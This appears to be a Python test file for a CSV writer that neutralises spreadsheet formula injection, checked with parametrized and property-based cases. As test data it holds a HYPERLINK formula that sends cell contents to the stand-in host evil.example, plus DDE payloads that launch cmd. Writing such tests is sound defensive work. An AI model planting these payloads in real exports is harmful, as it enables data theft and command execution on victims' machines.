"""The CSV lines graphwarm writes: what the csv module writes and reads back, with a ``'``
before every text cell a spreadsheet would run as a formula, and nothing else changed."""

from __future__ import annotations

import csv
import doctest
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from graphwarm import _csvcells
from graphwarm._csvcells import _may_begin_formula, _record, csv_line, neutralise

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
DDE = "+cmd|' /C calc'!A0"

# Text rich in what matters here: formula characters, ; and line breaks, quotes, whitespace.
risky = st.text(alphabet=st.sampled_from(list("=+-@;\t\r\n \u00a0\u3000\"',aÅ→0")), max_size=12)
texts = st.one_of(risky, st.text(max_size=30))
cells = st.one_of(st.none(), st.integers(), texts)


def _runs_as_formula(start: str, *, whole: bool) -> bool:
    """Whether a spreadsheet cell beginning with ``start`` may run as a formula: = + - @
    past whitespace and double quotes, or (for a whole value, OWASP) a tab or line break."""
    if whole and start[:1] in ("\t", "\r", "\n"):
        return True
    rest = start
    while rest and (rest[0] == '"' or (rest[0].isspace() and rest[0] not in "\r\n")):
        rest = rest[1:]
    return rest[:1] != "" and rest[0] in "=+-@"


def _cell_starts(value: str) -> list[tuple[str, bool]]:
    """Where a spreadsheet may begin a cell in ``value``: its start, and after each ; and
    line break (Excel splitting at ; in Swedish and other European locales)."""
    starts = [(value, True)]
    starts += [(value[k + 1 :], False) for k, char in enumerate(value) if char in ";\r\n"]
    return starts


def _is_safe(value: str) -> bool:
    return not any(_runs_as_formula(start, whole=whole) for start, whole in _cell_starts(value))


def _only_quotes_added(out: str, value: str) -> bool:
    """Whether ``out`` is ``value`` with ``'`` inserted only where a cell begins."""
    i = j = 0
    while i < len(out):
        if j < len(value) and out[i] == value[j]:
            i, j = i + 1, j + 1
        elif out[i] == "'" and (i == 0 or out[i - 1] in ";\r\n"):
            i += 1
        else:
            return False
    return j == len(value)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+46 70 123 45 67", "'+46 70 123 45 67"),  # a phone number is text: OWASP's price
        ("-0.5", "'-0.5"),  # as text; a float stays a number (see below)
        ("\tAnna", "'\tAnna"),  # tab, carriage return, line feed: OWASP's list
        ("\r\nAnna", "'\r\nAnna"),
        (" =1+1", "' =1+1"),  # leading whitespace is stripped by many a clean-up step
        ("\u00a0\u3000+1", "'\u00a0\u3000+1"),
        ('"=1+1"', '\'"=1+1"'),
        ("IT;-2+3+cmd|' /C calc'!A0", "IT;'-2+3+cmd|' /C calc'!A0"),  # Excel with ; splits
        ('IT; "=1+1";x', 'IT;\' "=1+1";x'),
        ("Bo\n=1+1", "Bo\n'=1+1"),
        ("Bo\r\n =1+1", "Bo\r\n' =1+1"),
        ("'=1+1", "'=1+1"),  # already text
        ("Anna-Karin Öberg", "Anna-Karin Öberg"),
        ("Ahl & Berg; Partners", "Ahl & Berg; Partners"),
        ("CFO, EMEA", "CFO, EMEA"),
        ("a=b+c@d", "a=b+c@d"),
        ("", ""),
    ],
)
def test_neutralise(value: str, expected: str) -> None:
    assert neutralise(value) == expected


@given(texts)
@example(HYPERLINK)
@example(DDE)
def test_a_quote_goes_exactly_where_a_cell_would_run_a_formula(value: str) -> None:
    out = neutralise(value)
    assert _is_safe(out)
    assert _only_quotes_added(out, value)
    assert (out == value) == _is_safe(value)  # safe text is never touched
    assert neutralise(out) == out


@given(st.lists(st.lists(cells, min_size=2, max_size=6), max_size=5))
def test_neutralised_lines_read_back_to_the_cells_but_the_added_quotes(rows) -> None:
    text = "".join(csv_line(row) for row in rows)
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert len(back) == len(rows)
    for row, read in zip(rows, back, strict=True):
        assert len(read) == len(row)
        for value, cell in zip(row, read, strict=True):
            if isinstance(value, str):
                assert _only_quotes_added(cell, value) and _is_safe(cell)
            else:
                assert cell == ("" if value is None else str(value))


@given(st.lists(st.lists(cells, min_size=2, max_size=6), max_size=5))
def test_raw_lines_read_back_to_the_cells_as_stored(rows) -> None:
    text = "".join(csv_line(row, raw=True) for row in rows)
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back == [["" if v is None else str(v) for v in row] for row in rows]


@given(st.lists(st.text(alphabet=st.characters(blacklist_characters="\r")), min_size=2))
def test_raw_lines_are_what_csv_writer_writes(row) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(row)
    assert csv_line(row, raw=True) == buffer.getvalue()


def test_a_bare_carriage_return_is_quoted() -> None:
    assert csv_line(["a\rb", "c"], raw=True) == '"a\rb",c\n'


def test_numbers_stay_numbers() -> None:
    line = csv_line([HYPERLINK, -0.5, 0.47, -3, None, DDE])
    assert line == f"\"'{HYPERLINK.replace(chr(34), 2 * chr(34))}\",-0.5000,0.4700,-3,,'{DDE}\n"
    (row,) = csv.reader(io.StringIO(line))
    assert float(row[1]) == -0.5 and int(row[3]) == -3


@given(st.lists(cells, min_size=1, max_size=6))
@example(["Anna", "Bo;=1"])
@example(["Anna", "\u00a0\u3000=1"])
@example(["x", -0.5])
def test_the_quick_look_sends_every_line_that_needs_it_to_neutralise(row) -> None:
    plain = _record(row)
    exact = _record([neutralise(v) if isinstance(v, str) else v for v in row])
    if not _may_begin_formula(plain):
        assert exact == plain
    assert csv_line(row) == exact


def test_the_examples_in_the_docstrings_hold() -> None:
    assert doctest.testmod(_csvcells).failed == 0
